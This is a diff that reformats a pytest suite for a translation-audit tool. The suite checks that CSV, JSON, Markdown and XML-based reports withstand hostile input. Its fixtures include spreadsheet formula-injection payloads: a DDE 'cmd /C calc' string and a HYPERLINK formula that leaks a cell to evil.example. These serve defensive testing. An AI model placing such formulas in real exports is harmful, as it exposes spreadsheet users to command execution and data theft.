@@ -1,6 +1,7 @@
 """Outputs other programs misread: CSV cells a spreadsheet executes, JSON that is not JSON,
 Markdown tables broken by raw line ends, XML/JSON broken by control characters or lone surrogates.
 """
+
 from __future__ import annotations
 
 import csv
@@ -22,8 +23,12 @@ DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r")
 # the segments table also source and target.
 HOSTILE_ROWS = [
     {"id": "=1+1", "doc_id": "@SUM(A1)", "source": "+拜登说。", "target": "-Bayeng said."},
-    {"id": "\t2", "doc_id": "=cmd|' /C calc'!A0", "source": "\r拜登说。",
-     "target": '=HYPERLINK("http://evil.example/?leak="&A1,"Bayeng")'},
+    {
+        "id": "\t2",
+        "doc_id": "=cmd|' /C calc'!A0",
+        "source": "\r拜登说。",
+        "target": '=HYPERLINK("http://evil.example/?leak="&A1,"Bayeng")',
+    },
 ]
 
 
@@ -34,12 +39,15 @@ def _jsonl(path: Path, rows: list[dict]) -> Path:
 
 def _strict_json(text: str):
     """json.loads that refuses NaN, Infinity and -Infinity: RFC 8259 has no such values."""
+
     def refuse(name: str):
         raise ValueError(f"non-finite number {name} in a JSON report")
+
     return json.loads(text, parse_constant=refuse)
 
 
 # --- CSV formula injection --------------------------------------------------------------------
+
 
 def _csv_cells(text: str) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(text, newline="")))
@@ -86,11 +94,16 @@ def test_csv_glossary_written_by_convert_is_neutralised_and_reads_back_whole(wor
     (work.dir / "f.yaml").write_text(
         'entries:\n  - id: "=id"\n    source: [拜登]\n    target: "+Biden"\n'
         '    forbidden: ["-Bayeng", "@Baiden", "\'=quoted"]\n    note: "=HYPERLINK(\\"http://evil.example\\")"\n',
-        encoding="utf-8")
+        encoding="utf-8",
+    )
     written = work.cli("glossary", "convert", "f.yaml", f"f{suffix}")
     assert written.returncode == 0, written.describe()
-    rows = list(csv.reader(io.StringIO((work.dir / f"f{suffix}").read_text(encoding="utf-8"), newline=""),
-                           delimiter="\t" if suffix == ".tsv" else ","))
+    rows = list(
+        csv.reader(
+            io.StringIO((work.dir / f"f{suffix}").read_text(encoding="utf-8"), newline=""),
+            delimiter="\t" if suffix == ".tsv" else ",",
+        )
+    )
     for cell in (cell for row in rows for cell in row):
         assert not cell.startswith(DANGEROUS_FIRST), f"cell {cell!r} is live in a spreadsheet"
     back = work.cli("glossary", "convert", f"f{suffix}", "back.yaml")
@@ -99,17 +112,25 @@ def test_csv_glossary_written_by_convert_is_neutralised_and_reads_back_whole(wor
 
     entry = yaml.safe_load((work.dir / "back.yaml").read_text(encoding="utf-8"))["entries"][0]
     assert (entry["id"], entry["target"], entry["forbidden"], entry["note"]) == (
-        "=id", "+Biden", ["-Bayeng", "@Baiden", "'=quoted"], '=HYPERLINK("http://evil.example")')
+        "=id",
+        "+Biden",
+        ["-Bayeng", "@Baiden", "'=quoted"],
+        '=HYPERLINK("http://evil.example")',
+    )
 
 
 # --- non-finite numbers -----------------------------------------------------------------------
 
-@pytest.mark.parametrize("toml, key", [
-    pytest.param("min_confidence = nan\n", "min_confidence", id="min_confidence-nan"),
-    pytest.param("[gate.reference]\nmin_chrf = nan\n", "min_chrf", id="min_chrf-nan"),
-    pytest.param("[gate.mt]\nmax_ter = -inf\n", "max_ter", id="max_ter-minus-inf"),
-    pytest.param("[gate.terms]\nmin_success_rate = inf\n", "min_success_rate", id="min_success_rate-inf"),
-])
+
+@pytest.mark.parametrize(
+    "toml, key",
+    [
+        pytest.param("min_confidence = nan\n", "min_confidence", id="min_confidence-nan"),
+        pytest.param("[gate.reference]\nmin_chrf = nan\n", "min_chrf", id="min_chrf-nan"),
+        pytest.param("[gate.mt]\nmax_ter = -inf\n", "max_ter", id="max_ter-minus-inf"),
+        pytest.param("[gate.terms]\nmin_success_rate = inf\n", "min_success_rate", id="min_success_rate-inf"),
+    ],
+)
 def test_non_finite_configuration_is_refused(work: Work, toml: str, key: str) -> None:
     (work.dir / "mtaudit.toml").write_text(toml, encoding="utf-8")
     tree = work.tree()
@@ -130,8 +151,9 @@ def test_non_finite_significance_level_of_compare_is_refused(work: Work) -> None
 
 def test_non_finite_number_in_an_extra_jsonl_key_is_refused(work: Work) -> None:
     """A key mtaudit does not read still makes the line something that is not JSON."""
-    (work.dir / "x.jsonl").write_text('{"source": "拜登说。", "target": "Biden said.", "score": {"bleu": NaN}}\n',
-                                      encoding="utf-8")
+    (work.dir / "x.jsonl").write_text(
+        '{"source": "拜登说。", "target": "Biden said.", "score": {"bleu": NaN}}\n', encoding="utf-8"
+    )
     assert_refused(work.audit("x.jsonl"), "x.jsonl:1", "score")
 
 
@@ -139,7 +161,9 @@ def test_non_finite_number_in_an_extra_jsonl_key_is_refused(work: Work) -> None:
 def test_non_finite_input_value_is_refused_naming_file_line_and_field(work: Work, literal: str) -> None:
     (work.dir / "n.jsonl").write_text(
         '{"source": "拜登说。", "target": "Biden said."}\n'
-        f'{{"source": "拜登说。", "target": "Biden said.", "reference": {literal}}}\n', encoding="utf-8")
+        f'{{"source": "拜登说。", "target": "Biden said.", "reference": {literal}}}\n',
+        encoding="utf-8",
+    )
     run = work.audit("n.jsonl")
     if run.returncode != 2 and run.stdout:
         _strict_json(run.text)
@@ -148,8 +172,10 @@ def test_non_finite_input_value_is_refused_naming_file_line_and_field(work: Work
 
 def test_json_report_of_awkward_but_valid_input_is_strict_json(work: Work) -> None:
     """Empty references and targets give degenerate scores: still numbers or null, never NaN."""
-    _jsonl(work.dir / "e.jsonl", [{"source": "拜登说。", "target": "", "reference": ""},
-                                  {"source": "。", "target": ".", "reference": ""}])
+    _jsonl(
+        work.dir / "e.jsonl",
+        [{"source": "拜登说。", "target": "", "reference": ""}, {"source": "。", "target": ".", "reference": ""}],
+    )
     run = work.audit("e.jsonl")
     assert run.returncode in (0, 1), run.describe()
     report = _strict_json(run.text)
@@ -185,12 +211,17 @@ def test_markdown_tables_survive_line_ends_and_pipes_in_text(work: Work) -> None
     """Glossary text (a PR may change the glossary too) and target text with CR, LF and pipes."""
     (work.dir / "gp.yaml").write_text(
         'entries:\n  - id: "bi|den"\n    source: [拜登]\n    target: "Bi|den\\r\\nJr"\n'
-        '    forbidden: ["Bay|eng", "Bay\\reng", "Bay\\neng"]\n    type: person\n', encoding="utf-8")
-    _jsonl(work.dir / "p|q.jsonl", [
-        {"id": "1|x", "doc_id": "d|1\r\n| x |", "source": "拜登说。", "target": "Bay|eng said."},
-        {"id": "2\r3", "doc_id": "d|1\r\n| x |", "source": "拜登说。", "target": "Bay\reng said."},
-        {"id": "4\n5", "doc_id": "d2", "source": "拜登说。", "target": "Bay\neng said |\r\n| x |."},
-    ])
+        '    forbidden: ["Bay|eng", "Bay\\reng", "Bay\\neng"]\n    type: person\n',
+        encoding="utf-8",
+    )
+    _jsonl(
+        work.dir / "p|q.jsonl",
+        [
+            {"id": "1|x", "doc_id": "d|1\r\n| x |", "source": "拜登说。", "target": "Bay|eng said."},
+            {"id": "2\r3", "doc_id": "d|1\r\n| x |", "source": "拜登说。", "target": "Bay\reng said."},
+            {"id": "4\n5", "doc_id": "d2", "source": "拜登说。", "target": "Bay\neng said |\r\n| x |."},
+        ],
+    )
     run = work.audit("p|q.jsonl", "-g", "gp.yaml", "-f", "markdown")
     assert run.returncode == 1, run.describe()
     _assert_tables_whole(run.text)
@@ -198,8 +229,14 @@ def test_markdown_tables_survive_line_ends_and_pipes_in_text(work: Work) -> None
 
 # --- JUnit / SARIF / JSON with control characters and lone surrogates -------------------------
 
-CONTROL_ROWS = [{"id": "c\u0001\u001b", "doc_id": "d\u000b\u000c", "source": "拜登说。\u0007",
-                 "target": "Bayeng\u0001 said \u001b[31m\u0000."}]
+CONTROL_ROWS = [
+    {
+        "id": "c\u0001\u001b",
+        "doc_id": "d\u000b\u000c",
+        "source": "拜登说。\u0007",
+        "target": "Bayeng\u0001 said \u001b[31m\u0000.",
+    }
+]
 # ensure_ascii writes these as \ud800 escapes: valid JSON text that decodes to a lone surrogate
 SURROGATE_ROWS = [{"id": "s\ud800", "doc_id": "d\udfff", "source": "拜登说。", "target": "Bayeng said \udc00."}]
 
@@ -214,14 +251,16 @@ def _assert_valid(run: Run, fmt: str) -> None:
         etree.fromstring(data)  # XML 1.0 allows no C0 control but tab, LF, CR, even as &#1;
     else:
         report = _strict_json(text)
-        assert not re.search(r"\\ud[89a-f][0-9a-f]{2}", text, re.IGNORECASE) or _pairs_only(text), \
+        assert not re.search(r"\\ud[89a-f][0-9a-f]{2}", text, re.IGNORECASE) or _pairs_only(text), (
             "an escaped lone surrogate in the JSON"
+        )
         assert report
 
 
 def _pairs_only(text: str) -> bool:
-    return not re.search(r"\\ud[89ab][0-9a-f]{2}(?!\\ud[c-f])|(?<!\\ud[89ab][0-9a-f]{2})\\ud[c-f][0-9a-f]{2}",
-                         text, re.IGNORECASE)
+    return not re.search(
+        r"\\ud[89ab][0-9a-f]{2}(?!\\ud[c-f])|(?<!\\ud[89ab][0-9a-f]{2})\\ud[c-f][0-9a-f]{2}", text, re.IGNORECASE
+    )
 
 
 @pytest.mark.parametrize("fmt", ["junit", "sarif", "json"])
